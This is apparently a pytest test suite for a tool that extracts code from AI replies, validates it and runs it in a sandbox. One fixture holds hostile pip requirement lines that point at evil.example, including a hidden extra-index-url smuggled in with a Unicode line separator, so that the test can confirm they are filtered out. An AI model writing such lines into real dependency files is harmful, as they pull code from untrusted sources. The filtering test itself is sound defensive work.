"""The command, from arguments to output and exit code."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import jsonschema
import pytest

from validator.cli import main
from validator.reporters import json as json_reporter

ROOT = Path(__file__).parent.parent
EXAMPLES = ROOT / "examples"
HELLO = "Here you are:\n\n```python\nprint('hello')\n```\n"


@pytest.fixture(autouse=True)
def _in_a_folder_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def reply(text: str, name: str = "reply.md") -> str:
    Path(name).write_text(text, encoding="utf-8")
    return name


# ── what cannot be obeyed: one clear line, exit code 2 ───────────────────────────────────────────


@pytest.mark.parametrize(
    ("arguments", "line"),
    [
        (["nowhere.md"], "validate: there is no nowhere.md"),
        (["full"], "validate: full has no Markdown or text files in it"),
        (["barren"], "validate: none of the 2 files found holds a reply: barren/blank.md is empty"),
        (["none-*.md"], "validate: no file matches none-*.md"),
        (["repair", ".", "--model", "x"], "validate: . is a directory; name the reply in it"),
        (["empty.md"], "validate: empty.md is empty"),
        (["blank.md"], "validate: blank.md is empty"),
        (["binary.md"], "validate: binary.md is binary, not a reply"),
        (["huge.md"], "validate: huge.md is larger than 16 MiB, which no reply is"),
        (["-", "-"], "validate: standard input (-) can be read only once"),
        (["hello.md", "--python", "4"], "validate: a Python is written X.Y, such as 3.11, not '4'"),
        (["hello.md", "--seconds", "soon"], "validate: seconds is a number, not 'soon'"),
        (["hello.md", "--memory-mib", "much"], "validate: memory-mib is a number, not 'much'"),
        (["hello.md", "--seconds", "-1"], "validate: seconds must be above 0, not -1"),
        (["hello.md", "--write", "full"], "validate: full is not empty (--force writes into it)"),
        (["hello.md", "--write", "hello.md"], "validate: hello.md is not a folder"),
        (["explain", "RV999"], "validate: there is no rule 'RV999'; see: validate rules"),
        (["extract", "hello.md"], "validate: extract needs --write DIR"),
        (["repair", "hello.md", "--model", "x"], "validate: a model's address looks like http://localhost:8080"),
    ],
)  # fmt: skip
def test_bad_input_gets_one_line_and_exit_code_2(
    arguments: list[str], line: str, capsys: pytest.CaptureFixture[str]
) -> None:
    reply(HELLO, "hello.md")
    Path("empty.md").touch()
    Path("blank.md").write_text(" \n\n")
    Path("binary.md").write_bytes(b"\x7fELF\0\0\0\1" * 100)
    with Path("huge.md").open("wb") as file:
        file.truncate(50 << 20)
    Path("full").mkdir()
    Path("full/kept").write_text("of the user")
    Path("barren").mkdir()
    Path("barren/blank.md").touch()
    Path("barren/picture.txt").write_bytes(b"\x89PNG\0")

    code = main(arguments)

    seen = capsys.readouterr()
    assert (code, seen.out, seen.err) == (2, "", line + "\n")
    assert Path("full/kept").read_text() == "of the user"


@pytest.mark.parametrize(
    "arguments",
    [
        [],
        ["hello.md", "--sandbox", "moon"],
        ["hello.md", "--sand", "none"],
        ["hello.md", "--unsafe"],
    ],
)
def test_arguments_that_make_no_sense_point_to_the_help(
    arguments: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as left:
        main(arguments)

    assert left.value.code == 2
    seen = capsys.readouterr()
    assert seen.err.count("\n") == 1
    assert seen.err.endswith("(see validate --help)\n")


def test_a_setting_nobody_knows_names_those_there_are(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Path("pyproject.toml").write_text("[tool.validator]\nsandboxx = 'docker'\n")

    assert main([reply(HELLO)]) == 2
    assert capsys.readouterr().err.startswith(
        "validate: there is no setting 'sandboxx'; there are: "
    )


def test_a_switch_is_on_or_off_and_nothing_between(capsys: pytest.CaptureFixture[str]) -> None:
    Path("pyproject.toml").write_text("[tool.validator]\noffline = 'tru'\n")

    assert main([reply(HELLO)]) == 2
    assert capsys.readouterr().err == "validate: offline is true or false, not 'tru'\n"


# ── what can be judged without a sandbox ─────────────────────────────────────────────────────────


def judge(*arguments: str, code: int, capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    """Run the command with `--format json` and return its report, checked against the schema."""
    assert main([*arguments, "--format", "json"]) == code
    report = json.loads(capsys.readouterr().out)
    jsonschema.validate(report, json_reporter.schema())
    return report


def codes(report: dict[str, object]) -> list[str]:
    return [finding["code"] for finding in report["findings"]]  # type: ignore[index, attr-defined]


def test_prose_alone_is_no_code(capsys: pytest.CaptureFixture[str]) -> None:
    name = reply("I am sorry, but I can't help with that. Snakes frighten me.\n")
    report = judge(name, "--sandbox", "none", code=1, capsys=capsys)

    assert codes(report) == ["RV101"]
    assert (report["verdict"], report["run"]) == ("failed", None)


def test_bytes_that_are_not_utf_8_are_read_all_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    Path("latin.md").write_bytes("```python\n# caf\xe9\nprint('x')\n```\n".encode("latin-1"))
    report = judge("latin.md", "--sandbox", "none", "--offline", code=3, capsys=capsys)

    assert report["submission"]["files"][0]["text"] == "# caf\ufffd\nprint('x')\n"  # type: ignore[index]


def test_without_a_sandbox_nothing_passes(capsys: pytest.CaptureFixture[str]) -> None:
    report = judge(reply(HELLO), "--sandbox", "none", "--offline", code=3, capsys=capsys)

    assert (report["verdict"], report["run"], codes(report)) == ("inconclusive", None, [])
    assert [missing["stage"] for missing in report["missing"]] == ["sandbox"]  # type: ignore[attr-defined]


def test_an_error_needs_no_sandbox_to_fail(capsys: pytest.CaptureFixture[str]) -> None:
    name = reply("```python\ndef main(:\n    pass\n```\n")
    report = judge(name, "--sandbox", "none", "--offline", code=1, capsys=capsys)

    assert codes(report)[0] == "RV201"


def test_offline_with_an_empty_cache_is_inconclusive_and_says_how_to_go_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("VALIDATOR_CACHE_DIR", str(tmp_path / "cache"))
    name = reply("```python\nimport numpy\nprint(numpy.zeros(3))\n```\n")
    report = judge(name, "--sandbox", "none", "--offline", code=3, capsys=capsys)

    packages = next(m for m in report["missing"] if m["stage"] == "packages")  # type: ignore[attr-defined]
    assert packages["remedy"]


def test_an_index_that_does_not_answer_is_ours_and_not_the_programs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("VALIDATOR_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("VALIDATOR_INDEX_URL", "http://someone:secret@127.0.0.1:9/simple")
    name = reply("```python\nimport numpy\nprint(numpy.zeros(3))\n```\n")
    report = judge(name, "--sandbox", "none", code=3, capsys=capsys)

    assert report["verdict"] == "inconclusive"
    assert "secret" not in json.dumps(report)


def test_several_replies_are_one_json_object_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    names = [reply(HELLO, "a.md"), reply("No code.\n", "b.md")]

    assert main([*names, "--sandbox", "none", "--offline", "--format", "json"]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(line)["verdict"] for line in lines] == ["inconclusive", "failed"]


def test_the_report_can_go_to_a_file(capsys: pytest.CaptureFixture[str]) -> None:
    assert main([reply(HELLO), "--sandbox", "none", "--offline", "--output", "report.txt"]) == 3
    assert capsys.readouterr().out == ""
    assert "INCONCLUSIVE" in Path("report.txt").read_text()


def test_ignored_findings_are_set_aside_and_not_lost(capsys: pytest.CaptureFixture[str]) -> None:
    name = reply("No code.\n")
    report = judge(name, "--sandbox", "none", "--ignore", "RV101", code=3, capsys=capsys)

    assert codes(report) == []
    assert [finding["code"] for finding in report["suppressed"]] == ["RV101"]  # type: ignore[attr-defined]


def test_extract_writes_the_program_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
    name = reply("Run `pip install flask`.\n\n```python\nimport flask\nprint(flask)\n```\n")

    assert main(["extract", name, "--write", "out"]) == 0
    assert sorted(path.name for path in Path("out").iterdir()) == ["main.py", "requirements.txt"]
    assert Path("out/main.py").read_text() == "import flask\nprint(flask)\n"
    assert Path("out/requirements.txt").read_text() == "flask\n"
    assert capsys.readouterr().out.splitlines() == ["out/main.py", "out/requirements.txt"]


HOSTILE = """\
Run `conda install pytorch=2.1` or `pip install package_name`.
And `pip install --index-url=https://a.example six`.

```requirements.txt
--index-url https://evil.example/simple
git+https://evil.example/x.git
-e .
rich>=13   # the colours
./folder
tomli ; python_version < '3.11'
six \u2028--extra-index-url https://evil.example
```

```python
print("hello")
```
"""


@pytest.mark.parametrize("command", [["extract"], ["--sandbox", "none", "--offline"]])
def test_no_line_that_pip_would_obey_is_written(command: list[str]) -> None:
    main([*command, reply(HOSTILE), "--write", "out"])
    lines = Path("out/requirements.txt").read_text().splitlines()
    asked = [line for line in lines if not line.startswith("# left out: ")]
    assert asked == ["torch==2.1.*", "six", "rich>=13", 'tomli ; python_version < "3.11"']
    assert len(lines) - len(asked) == 6


# ── the whole job ────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(
    params=[
        pytest.param("bubblewrap", marks=pytest.mark.bubblewrap),
        pytest.param("docker", marks=pytest.mark.docker),
    ]
)
def sandbox(request: pytest.FixtureRequest, sandboxes: frozenset[str]) -> str:
    if request.param not in sandboxes:
        pytest.skip(f"{request.param} does not answer here")
    return str(request.param)


def test_a_hello_passes(sandbox: str, capsys: pytest.CaptureFixture[str]) -> None:
    report = judge(reply(HELLO), "--sandbox", sandbox, code=0, capsys=capsys)

    assert (report["verdict"], codes(report)) == ("passed", [])
    assert report["run"]["stdout"] == "hello\n"  # type: ignore[index]
    assert report["run"]["backend"] == sandbox  # type: ignore[index]


def test_a_crash_is_one_finding_with_what_predicted_it(
    sandbox: str, capsys: pytest.CaptureFixture[str]
) -> None:
    name = reply("Sure:\n\n```python\ntotal = 0\nprint(totl)\n```\n")
    report = judge(name, "--sandbox", sandbox, code=1, capsys=capsys)

    (finding,) = report["findings"]  # type: ignore[misc]
    assert (finding["code"], finding["reply_line"], finding["line"]) == ("RV206", 5, 2)  # type: ignore[index]
    evidence = " ".join(finding["evidence"])  # type: ignore[index]
    assert "ruff F821" in evidence
    assert "NameError" in evidence


def test_a_hang_keeps_its_output_and_says_where_it_stood(
    sandbox: str, capsys: pytest.CaptureFixture[str]
) -> None:
    name = reply("```python\nprint('started')\nwhile True:\n    pass\n```\n")
    report = judge(name, "--sandbox", sandbox, "--seconds", "1", code=1, capsys=capsys)

    (finding,) = report["findings"]  # type: ignore[misc]
    assert finding["code"] == "RV402"  # type: ignore[index]
    assert finding["reply_line"] in (3, 4)  # type: ignore[index]
    assert report["run"]["stdout"] == "started\n"  # type: ignore[index]


@pytest.mark.online
def test_a_window_passes_and_leaves_its_picture_and_hashed_pins(
    sandbox: str, capsys: pytest.CaptureFixture[str]
) -> None:
    name = str(EXAMPLES / "bouncing-ball/reply.md")
    report = judge(name, "--sandbox", sandbox, "--write", "out", code=0, capsys=capsys)

    assert report["run"]["kind"] == "game"  # type: ignore[index]
    frames = [o for o in report["run"]["observations"] if o["kind"] == "frames"]  # type: ignore[index]
    assert frames[0]["count"] > 20
    assert Path("out/artifacts/window.png").read_bytes().startswith(b"\x89PNG")
    assert Path("out/requirements.txt").read_text().count("--hash=sha256:") == 1


@pytest.mark.online
def test_the_snake_example_fails_for_its_four_faults_and_draws_once_mended(
    sandbox: str, capsys: pytest.CaptureFixture[str]
) -> None:
    name = str(EXAMPLES / "snake/reply.md")
    report = judge(name, "--sandbox", sandbox, code=1, capsys=capsys)
    assert sorted(codes(report)) == ["RV202", "RV204", "RV207", "RV304"]

    mended = judge(name, "--sandbox", sandbox, "--fix", "--write", "out", code=0, capsys=capsys)
    assert codes(mended) == []
    assert sorted(set(mended["fixed"])) == ["RV202", "RV204", "RV207", "RV304"]  # type: ignore[call-overload]
    assert "frames" in [o["kind"] for o in mended["run"]["observations"]]  # type: ignore[index]
    assert Path("out/requirements.txt").read_text().startswith("pygame==2.1.3 ")
    assert 'if __name__ == "__main__":' in Path("out/main.py").read_text()


@pytest.mark.online
def test_the_session_example_becomes_one_program(
    sandbox: str, capsys: pytest.CaptureFixture[str]
) -> None:
    parts = sorted(str(path) for path in (EXAMPLES / "session").glob("part-*.md"))
    report = judge("--parts", *parts, "--sandbox", sandbox, code=1, capsys=capsys)

    assert len(report["submission"]["files"]) == 1  # type: ignore[index]
    assert judge("--parts", *parts, "--fix", "--sandbox", sandbox, code=0, capsys=capsys)


def test_what_is_mended_is_shown_and_what_is_not_is_left_for_the_model(
    sandbox: str, capsys: pytest.CaptureFixture[str]
) -> None:
    name = reply(
        "```python\ndef main():\n    print(math.sqrt(4))\n    play()\n\n"
        "if name == 'main':\n    main()\n```\n"
    )
    report = judge(name, "--sandbox", sandbox, "--fix", code=1, capsys=capsys)

    assert report["fixed"] == ["RV206", "RV202"]
    mending = report["mending"]
    assert [each["diffs"][0]["path"] for each in mending["applied"]] == ["main.py", "main.py"]  # type: ignore[index]
    assert "+import math\n" in mending["applied"][0]["diffs"][0]["text"]  # type: ignore[index]
    assert [each["code"] for each in mending["left_for_the_model"]] == ["RV206"]  # type: ignore[index]

    assert main([name, "--sandbox", sandbox, "--fix"]) == 1
    shown = capsys.readouterr().out
    assert "fixed RV206 undefined-name: add `import math`\n" in shown
    assert "  left for the model: RV206 undefined-name\n" in shown


# ── being stopped, and other ways to lose ────────────────────────────────────────────────────────


Start = Callable[..., "subprocess.Popen[str]"]


@pytest.fixture
def start() -> Iterator[Start]:
    """Start the command; whatever of it a failed test leaves is ended."""
    started = []

    def begin(*arguments: str, **environment: str) -> subprocess.Popen[str]:
        process = subprocess.Popen(
            [sys.executable, "-m", "validator", *arguments],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            env={**os.environ, **environment},
        )  # fmt: skip
        started.append(process)
        return process

    yield begin
    for process in started:
        process.kill()
        process.wait()


def processes_with(marker: str) -> list[str]:
    """Return the command lines of all processes whose program text is `marker`'s."""
    found = []
    for path in Path("/proc").glob("[0-9]*"):
        try:
            if marker in (path / "environ").read_text(errors="replace"):
                found.append((path / "cmdline").read_text(errors="replace").replace("\0", " "))
        except OSError:
            continue
    return found


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_interrupted_it_leaves_nothing_running(
    sandbox: str, number: signal.Signals, start: Start
) -> None:
    name = reply("```python\nwhile True:\n    pass\n```\n")
    marker = f"test-{os.getpid()}-{time.monotonic_ns()}"
    process = start(name, "--sandbox", sandbox, "--seconds", str(SECONDS), TEST_MARKER=marker)
    _wait_until(lambda: _programs())
    process.send_signal(number)

    _, err = process.communicate(timeout=20)
    assert (process.returncode, err) == (130, "validate: interrupted\n")
    _wait_until(lambda: not processes_with(marker), seconds=2)
    _wait_until(lambda: not _programs(), seconds=2)


def test_killed_outright_it_leaves_nothing_running(sandbox: str, start: Start) -> None:
    name = reply("```python\nwhile True:\n    pass\n```\n")
    process = start(name, "--sandbox", sandbox, "--seconds", str(SECONDS))
    _wait_until(lambda: _programs())
    process.kill()
    process.communicate(timeout=20)

    _wait_until(lambda: not _programs(), seconds=10)


SECONDS = 40 + os.getpid() % 50
"""The limit of the programs here, unlike that of other runs on the machine, to know them by."""
_CPU_LIMIT = str(SECONDS * (os.cpu_count() or 1) + 30)
"""What `supervisor.py` makes of it; every user may read it, inside a container too."""


def _programs() -> set[str]:
    """Return the processes of these tests' programs, in jails of either sandbox."""
    found = set()
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            command = (folder / "cmdline").read_bytes()
            limits = (folder / "limits").read_text()
        except OSError:
            continue
        ours = any(
            line.startswith("Max cpu time") and _CPU_LIMIT in line.split()
            for line in limits.splitlines()
        )
        if ours and b"/guest/start.py" in command:
            found.add(folder.name)
    return found


def _wait_until(condition: object, seconds: float = 30.0) -> None:
    deadline = time.monotonic() + seconds
    while not condition():  # type: ignore[operator]
        assert time.monotonic() < deadline, "it never came to that"
        time.sleep(0.05)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full to write to")
def test_a_full_disk_is_said_in_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    arguments = [reply(HELLO), "--sandbox", "none", "--offline", "--output", "/dev/full"]

    assert main(arguments) == 2
    assert capsys.readouterr().err == (
        "validate: /dev/full cannot be written: No space left on device\n"
    )


def test_a_reader_that_goes_away_is_no_traceback(start: Start) -> None:
    process = start("rules")
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert process.stderr.read() == ""
    process.wait(timeout=20)
